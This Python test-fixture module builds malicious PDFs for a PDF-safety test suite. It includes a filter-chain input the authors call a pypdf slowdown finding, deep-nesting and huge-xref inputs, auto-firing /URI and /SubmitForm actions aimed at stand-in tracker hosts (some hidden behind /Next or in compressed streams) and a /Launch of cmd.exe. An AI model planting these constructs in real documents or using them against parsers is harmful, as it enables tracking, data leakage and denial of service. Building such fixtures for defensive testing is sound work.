"""Hostile PDFs built from bytes, for tests/intents/test_hostile_pdfs.py.

Nothing binary is committed: each file is written here from its recipe. `pdf_file` writes a
PDF 1.5 whose objects sit either directly in the file or inside compressed object streams,
with a cross-reference stream, so that any object can be put anywhere.
"""

import functools
import zlib

CATALOG = 1
PAGES = 2
PAGE = 3


def pdf_file(direct, packed=(), first_free=None):
    """A PDF of `direct` objects ({number: body}) and `packed` object streams.

    `packed` is a list of (stream number, stream dictionary entries, {number: body}): each
    becomes an object stream (/Type /ObjStm) whose /Filter and so on are the given entries.
    Objects 1-3 should be the catalog, the page tree and a page.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows = {}
    for number, body in direct.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for stream_number, entries, members in packed:
        header, body_bytes = [], bytearray()
        for index, (number, body) in enumerate(members.items()):
            rows[number] = (2, stream_number, index)
            header.append(b"%d %d" % (number, len(body_bytes)))
            body_bytes += body + b"\n"
        header = b" ".join(header) + b"\n"
        content = zlib.compress(header + bytes(body_bytes), 9)
        rows[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d %s >>\n" % (
            stream_number,
            len(members),
            len(header),
            len(content),
            entries,
        )
        out += b"stream\n" + content + b"\nendstream\nendobj\n"
    xref_number = max(rows) + 1
    rows[xref_number] = (1, len(out), 0)
    size = xref_number + 1
    table = bytearray()
    for number in range(size):
        kind, field, index = rows.get(number, (0, 0, 0xFFFF if number == 0 else 0))
        table += bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")
    xref_offset = rows[xref_number][1]
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\n" % (
        xref_number,
        first_free or size,
        CATALOG,
        len(table),
    )
    out += b"stream\n" + bytes(table) + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def one_page(catalog=b"", page=b"", extra=None):
    """The usual three objects, with extra entries in the catalog and the page."""
    objects = {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
    }
    objects.update(extra or {})
    return objects


@functools.cache  # about 6 s to compress: built once per run
def chained_filter_arrays(links=150, padding=4 << 20):
    """The finding: a chain of object streams, each one's /Filter an indirect reference to a
    whitespace-padded array stored in the next stream.

    Reading the first array makes pypdf decode the next stream, whose filter is in the one
    after, and so on to the end of the chain, all inside one object lookup, parsing megabytes
    of padding a byte at a time. Each link is `padding` spaces squeezed into a few KB, so the
    file stays well under a megabyte.
    """
    first_stream = 10
    packed = []
    for link in range(links):
        stream = first_stream + 2 * link
        member = stream + 1  # the array held in this stream; the previous stream's filter
        following = member + 2  # the array in the next stream: this stream's filter
        entries = b"/Filter %d 0 R" % following if link < links - 1 else b"/Filter /FlateDecode"
        packed.append((stream, entries, {member: b"[" + b" " * padding + b"/FlateDecode]"}))
    # The stream before the first link uses the first link's array as its own filter, and the
    # catalog points at the first array, so the walk reaches the chain from the trailer.
    return pdf_file(one_page(catalog=b"/Chain %d 0 R" % (first_stream + 1)), packed)


def deep_nesting(depth=50_000):
    """Arrays and dictionaries nested `depth` deep, in an object of their own."""
    body = b"[<< /A " * depth + b"0" + b" >>]" * depth
    return pdf_file(one_page(catalog=b"/Deep 4 0 R", extra={4: body}))


def huge_xref(entries=5_000_000):
    """A classic cross-reference table whose subsection claims millions of entries."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in one_page().items():
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % entries
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (entries, xref)
    return bytes(out)


def huge_xref_stream(entries=50_000_000):
    """A cross-reference stream whose /Size and /Index claim millions of entries."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in one_page().items():
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    table = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets
    )
    out += b"4 0 obj\n<< /Type /XRef /Size %d /Index [0 %d] /W [1 4 2] /Root 1 0 R " % (
        entries,
        entries,
    )
    out += b"/Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(table), table)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def with_objects(catalog=b"", page=b"", extra=None):
    return pdf_file(one_page(catalog=catalog, page=page, extra=extra))


def open_action_uri():
    return with_objects(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/o) >>")


def open_action_submit_form():
    return with_objects(
        catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://tracker.example/f) >>"
        b" /Flags 4 >>"
    )


def page_open_uri():
    """A page's additional action: opening the page fetches a web address."""
    return with_objects(
        page=b"/AA << /O 4 0 R >>", extra={4: b"<< /S /URI /URI (https://t.example/p) >>"}
    )


def uri_behind_next():
    """An open action that looks harmless (go to page 1) and then chains a /URI through /Next."""
    return with_objects(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>",
        extra={4: b"<< /S /URI /URI (https://t.example/n) >>"},
    )


def annotation_page_visible_uri():
    """An annotation whose /AA fires when the page becomes visible (/PV)."""
    return with_objects(
        page=b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 0 0] "
        b"/AA << /PV << /S /URI /URI (https://t.example/v) >> >> >>]"
    )


def go_to_remote():
    return with_objects(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /GoToR /F << /FS /URL /F (https://t.example/r.pdf) >> /D [0 /Fit] >> >>]"
    )


def launch():
    return with_objects(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")


def clickable_web_link():
    """A link in the text to a website: fires only when clicked, and accepted."""
    return with_objects(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://www.cnsa.gov.cn/) >> >>]"
    )


def packed_open_action_uri():
    """The /URI open action inside a compressed object stream: no byte search sees it."""
    return pdf_file(
        {},
        [
            (
                10,
                b"/Filter /FlateDecode",
                one_page(catalog=b"/OpenAction << /S /URI /URI (https://t.example/z) >>"),
            )
        ],
    )
